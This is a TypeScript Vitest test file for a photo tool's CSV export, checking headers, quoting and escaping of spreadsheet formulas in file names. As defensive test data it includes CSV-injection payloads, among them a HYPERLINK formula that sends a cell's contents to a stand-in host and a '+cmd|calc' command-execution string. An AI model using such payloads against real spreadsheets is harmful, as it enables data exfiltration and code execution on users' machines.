import { describe, it, expect } from 'vitest';
import { toCsv, parseCsv, csvCell, CSV_COLUMNS, fixSummaryCsv, FIX_SUMMARY_COLUMNS } from '../../../../src/features/photo/batch-csv.ts';
import type { PhotoReport } from '../../../../src/features/photo/report-types.ts';

const report = (over: Partial<PhotoReport> = {}): PhotoReport => ({
  schema: 1,
  verdict: 'fail',
  file: { name: '张三,照片 "1".jpg', bytes: 31234, mime: 'image/jpeg', width: 480, height: 640, dpi: [300, 300], components: 3, bitsPerSample: 8, quality: 87, progressive: false },
  faces: 1,
  measure: { headTopPx: 71, eyeYPx: 251.46, eyeLeft: [200, 251], eyeRight: [280, 252], faceWidthPx: 221.04, faceCenterXPx: 240, rollDeg: 0.716, yawDeg: 1, pitchDeg: 2, bgRgb: [101, 196, 250], bgDeltaE: { blue: 1.2, white: 30 } },
  findings: [
    { rule: 'P-FMT-JPEG', status: 'pass', message: 'ok' },
    { rule: 'P-GEO-EYES', status: 'fail', message: 'x' },
    { rule: 'P-BG-UNIFORM', status: 'warn', message: 'y' },
    { rule: 'P-GEO-HEADTOP', status: 'fail', message: 'z' },
  ],
  ...over,
});

describe('batch CSV (CONTRACT.md)', () => {
  it('starts with a BOM and the exact header', () => {
    const csv = toCsv([report()]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.slice(1).split('\r\n')[0]).toBe('file,verdict,faces,width,height,bytes,quality,dpi,head_top_px,eye_y_px,face_width_px,roll_deg,bg_r,bg_g,bg_b,failed_rules,warned_rules');
  });

  it('round-trips values, quoting names with commas and quotes', () => {
    const rows = parseCsv(toCsv([report()]));
    expect(rows).toHaveLength(1);
    const r = rows[0];
    expect(r.file).toBe('张三,照片 "1".jpg');
    expect(r.verdict).toBe('fail');
    expect(r.dpi).toBe('300');
    expect(r.head_top_px).toBe('71');
    expect(r.eye_y_px).toBe('251.5');
    expect(r.roll_deg).toBe('0.72');
    expect(r.bg_r + ',' + r.bg_g + ',' + r.bg_b).toBe('101,196,250');
    expect(r.failed_rules).toBe('P-GEO-EYES;P-GEO-HEADTOP');
    expect(r.warned_rules).toBe('P-BG-UNIFORM');
  });

  it('leaves unknown numbers blank (no face, not decodable)', () => {
    const r = parseCsv(toCsv([report({ measure: null, faces: 0, file: { ...report().file, dpi: null, quality: null } })]))[0];
    expect(r.head_top_px).toBe('');
    expect(r.quality).toBe('');
    expect(r.dpi).toBe('');
    expect(r.faces).toBe('0');
    expect(Object.keys(r)).toEqual([...CSV_COLUMNS]);
  });

  it('neutralises spreadsheet formulas in file names', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell('+1.jpg')).toBe("'+1.jpg");
  });
});

describe('summary.csv of the 全部自动修正 zip (issue 16 item 5): the same writer as the batch CSV', () => {
  it('a hostile file name neither becomes a formula nor shifts the columns', () => {
    const name = '=HYPERLINK("http://x.example/?"&A1,"click"),z.jpg';
    const text = fixSummaryCsv([
      { file: name, result: 'ok', bytes: 31000, quality: 85, reason: null },
      { file: '@SUM(1+1)\r\nb.jpg', result: 'failed', bytes: null, quality: null, reason: '头部倾斜, 无法修正\n请重拍' },
      { file: '-2+3.jpg', result: 'failed', bytes: null, quality: null, reason: '+cmd|calc' },
    ]);
    expect(text.startsWith('\uFEFFfile,result,bytes,quality,reason\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(3);
    expect(Object.keys(rows[0])).toEqual([...FIX_SUMMARY_COLUMNS]);
    expect(rows[0]).toEqual({ file: `'${name}`, result: 'ok', bytes: '31000', quality: '85', reason: '' });
    expect(rows[1].file).toBe("'@SUM(1+1)\r\nb.jpg");
    expect(rows[1].reason).toBe('头部倾斜, 无法修正\n请重拍');
    expect(rows[2]).toMatchObject({ file: "'-2+3.jpg", reason: "'+cmd|calc" });
    // No cell of the raw text starts with a formula character.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});
